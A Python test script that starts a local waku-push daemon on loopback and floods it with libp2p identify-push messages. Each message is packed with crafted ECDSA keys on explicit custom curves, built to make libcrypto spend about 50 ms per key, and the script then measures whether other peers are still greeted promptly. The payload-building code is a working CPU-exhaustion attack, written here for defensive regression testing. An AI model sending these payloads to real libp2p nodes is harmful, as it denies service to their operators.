#!/usr/bin/env python3
"""Attacks by a libp2p peer on a real waku-push daemon, on loopback, bounded in time; further peers connect meanwhile.

    PYTHON libp2p_attacks.py --binary .build/debug/waku-push [--seconds 10]

PYTHON has libp2p (Tests/Interop/requirements.txt). The daemon listens on its default port, 60000. Prints what was sent, the longest time until one of
the further peers was greeted, and the daemon's processor time. The exit status is 1 if a greeting took longer than a second, or no push was sent.

    keys    identify pushes of 64 KiB, full of ECDSA keys on curves of the sender's own. Each is a compressed point over a prime k * 2^640 + 1: to find
            it, libcrypto takes a square root by Tonelli and Shanks, 50 ms a key
"""

import argparse
import logging
import random
import re
import signal
import subprocess
import tempfile
import time
from pathlib import Path

import multiaddr
import psutil
import trio
from libp2p import new_host
from libp2p.crypto.secp256k1 import create_new_key_pair
from libp2p.crypto.x25519 import create_new_key_pair as create_noise_key
from libp2p.custom_types import TProtocol
from libp2p.peer.peerinfo import info_from_p2p_addr
from libp2p.security.noise.transport import PROTOCOL_ID as NOISE, Transport as NoiseTransport
from libp2p.stream_muxer.yamux.yamux import PROTOCOL_ID as YAMUX, Yamux

IDENTIFY_PUSH = TProtocol("/ipfs/id/push/1.0.0")
METADATA = TProtocol("/vac/waku/metadata/1.0.0")
CLUSTER_AND_SHARD = bytes([8, 16, 16, 32])
MESSAGE_LIMIT = 64 * 1024
LONGEST_GREETING = 1.0
# More than there are event loops.
FURTHER_PEERS = 8


def is_prime(n):
    """By Miller and Rabin."""
    if any(n % small == 0 for small in (3, 5, 7, 11, 13, 17, 19, 23)):
        return False
    odd, twos = n - 1, 0
    while odd % 2 == 0:
        odd, twos = odd // 2, twos + 1
    for _ in range(12):
        x = pow(random.randrange(2, n - 1), odd, n)
        if x in (1, n - 1):
            continue
        for _ in range(twos - 1):
            x = x * x % n
            if x == n - 1:
                break
        else:
            return False
    return True


def der(tag, *parts):
    content = b"".join(parts)
    n = len(content)
    length = bytes([n]) if n < 128 else bytes([0x81, n]) if n < 256 else bytes([0x82, n >> 8, n & 255])
    return bytes([tag]) + length + content


def integer(value):
    return der(2, value.to_bytes(value.bit_length() // 8 + 1, "big"))


def slow_key():
    """A SubjectPublicKeyInfo whose curve and point are given by parameters."""
    k = (1 << 15) + 1
    while not is_prime(p := (k << 640) + 1):
        k += 2
    size = (p.bit_length() + 7) // 8
    a, x, y = 2, 5, random.randrange(p)
    b = (y * y - x**3 - a * x) % p
    point = bytes([2 + (y & 1)]) + x.to_bytes(size, "big")
    curve = der(
        0x30, integer(1), der(0x30, bytes.fromhex("06072a8648ce3d0101"), integer(p)),
        der(0x30, der(4, a.to_bytes(size, "big")), der(4, b.to_bytes(size, "big"))), der(4, point), integer(p - (1 << 300)), integer(1))
    return der(0x30, der(0x30, bytes.fromhex("06072a8648ce3d0201"), curve), der(3, b"\0" + point))


def varint(n):
    out = b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def field(number, content):
    return varint(number << 3 | 2) + varint(len(content)) + content


def make_host():
    key = create_new_key_pair()
    noise = NoiseTransport(libp2p_keypair=key, noise_privkey=create_noise_key().private_key)
    host = new_host(key_pair=key, sec_opt={NOISE: noise}, muxer_opt={TProtocol(YAMUX): Yamux})

    # The daemon disconnects peers that don't report its cluster.
    async def metadata(stream):
        await stream.read(100)
        await stream.write(varint(len(CLUSTER_AND_SHARD)) + CLUSTER_AND_SHARD)
        await stream.close()

    host.set_stream_handler(METADATA, metadata)
    return host


async def longest_greeting(address):
    """Connects as further peers do; the daemon sends the first line of the handshake at once."""
    endpoint = address.value_for_protocol("ip4"), int(address.value_for_protocol("tcp"))
    longest = 0.0
    for _ in range(FURTHER_PEERS):
        began = time.monotonic()
        with trio.move_on_after(30):
            async with await trio.open_tcp_stream(*endpoint) as stream:
                await stream.receive_some(20)
        longest = max(longest, time.monotonic() - began)
    return longest


async def attack(peer, seconds):
    """The pushes sent, and the longest greeting meanwhile."""
    key = field(1, b"\x08\x03" + field(2, slow_key()))
    message = key * (MESSAGE_LIMIT // len(key))
    message = varint(len(message)) + message
    host, pushes = make_host(), 0

    async def push():
        nonlocal pushes
        while True:
            try:
                stream = await host.new_stream(peer.peer_id, [IDENTIFY_PUSH])
                await stream.write(message)
                pushes += 1
                await stream.read(1)
            except Exception:
                # Refused: the next one.
                await trio.sleep(0.05)

    async with host.run(listen_addrs=[multiaddr.Multiaddr("/ip4/127.0.0.1/tcp/0")]):
        await host.connect(peer)
        async with trio.open_nursery() as nursery:
            for _ in range(2):
                nursery.start_soon(push)
            await trio.sleep(0.5)
            longest = await longest_greeting(peer.addrs[0])
            await trio.sleep(seconds - 0.5)
            nursery.cancel_scope.cancel()
    return pushes, longest


def main():
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--binary", required=True)
    parser.add_argument("--seconds", type=float, default=10)
    chosen = parser.parse_args()
    logging.disable(logging.CRITICAL)
    with tempfile.TemporaryDirectory(prefix="waku-push-attack-") as folder:
        binary, identity, log = Path(chosen.binary).resolve(), f"{folder}/id.key", f"{folder}/log"
        subprocess.run([binary, "identity", "new", "--out", identity], check=True, stdout=subprocess.DEVNULL)
        with open(log, "wb") as output:
            daemon = subprocess.Popen(
                [binary, "serve", "--identity", identity, "--data", f"{folder}/data", "--http", "127.0.0.1:0"], stdout=output, stderr=output)
        try:
            began = time.monotonic()
            while not (found := re.search(r"libp2p listening address=(\S+)", Path(log).read_text())):
                if daemon.poll() is not None or time.monotonic() - began > 15:
                    raise SystemExit(f"the daemon does not listen:\n{Path(log).read_text()}")
                time.sleep(0.1)
            pushes, longest = trio.run(attack, info_from_p2p_addr(multiaddr.Multiaddr(found[1])), chosen.seconds)
            used = psutil.Process(daemon.pid).cpu_times()
        finally:
            daemon.send_signal(signal.SIGTERM)
            daemon.wait(timeout=15)
    print(f"keys: {pushes} pushes in {chosen.seconds:.0f} s; longest greeting {longest * 1000:.0f} ms; processor time {used.user + used.system:.1f} s")
    return 0 if pushes and longest <= LONGEST_GREETING else 1


if __name__ == "__main__":
    raise SystemExit(main())
